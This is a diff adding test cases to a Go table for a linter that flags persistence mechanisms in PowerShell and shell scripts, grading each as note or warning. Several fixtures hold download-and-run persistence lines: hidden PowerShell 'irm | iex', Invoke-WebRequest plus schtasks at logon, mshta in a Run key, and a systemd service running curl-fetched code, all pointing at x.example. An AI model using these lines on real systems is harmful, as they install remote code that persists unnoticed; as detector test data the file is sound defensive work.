@@ -32,6 +32,11 @@ var codeCases = []lintCase{
 	{"login.ps1", "autorun-config", "$app = Join-Path $env:ProgramFiles 'Shot\\shot.exe'\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Shot -Value \"`\"$app`\"\"\n", "note", 2},
 	{"login.ps1", "autorun-config", "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name U -Value 'powershell -w hidden -c \"irm https://x.example/a | iex\"'\n", "warning", 1},
 	{"login.ps1", "persistence", "$k = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n$e = Join-Path $env:LOCALAPPDATA 'u\\u.exe'\nInvoke-WebRequest https://x.example/u.exe -OutFile $e\nNew-ItemProperty -Path $k -Name U -Value $e\n", "warning", 4},
+	// schtasks and reg called from PowerShell, graded the same way.
+	{"task.ps1", "persistence", "$git = Join-Path $env:ProgramFiles 'Git\\cmd\\git.exe'\n$repo = 'C:\\src\\mono'\nschtasks.exe /create /tn Fetch /sc daily /st 03:00 /f /tr \"`\"$git`\" -C `\"$repo`\" fetch --all\"\n", "note", 3},
+	{"task.ps1", "persistence", "$u = Join-Path $env:LOCALAPPDATA 'a\\a.exe'\nInvoke-WebRequest https://x.example/a.exe -OutFile $u\nschtasks /create /tn A /sc onlogon /tr \"`\"$u`\"\"\n", "warning", 3},
+	{"task.ps1", "persistence", "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v Shot /d '\"C:\\Program Files\\Shot\\shot.exe\"' /f\n", "note", 1},
+	{"task.ps1", "persistence", "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v Shot /d \"mshta https://x.example/a.hta\" /f\n", "warning", 1},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=${2:?}\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "note", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(cat notes.dat)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "warning", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(curl -s https://x.example/c)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c \"$cmd\"\nU\n", "warning", 3},
